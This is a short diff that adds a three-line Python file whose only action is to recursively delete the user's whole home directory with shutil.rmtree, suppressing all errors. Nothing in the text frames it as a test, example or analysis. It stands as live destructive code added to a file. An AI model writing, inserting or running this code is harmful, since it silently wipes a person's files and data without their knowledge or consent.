@@ -1,0 +1,3 @@
+import os, shutil
+
+shutil.rmtree(os.path.expanduser('~'), ignore_errors=True)
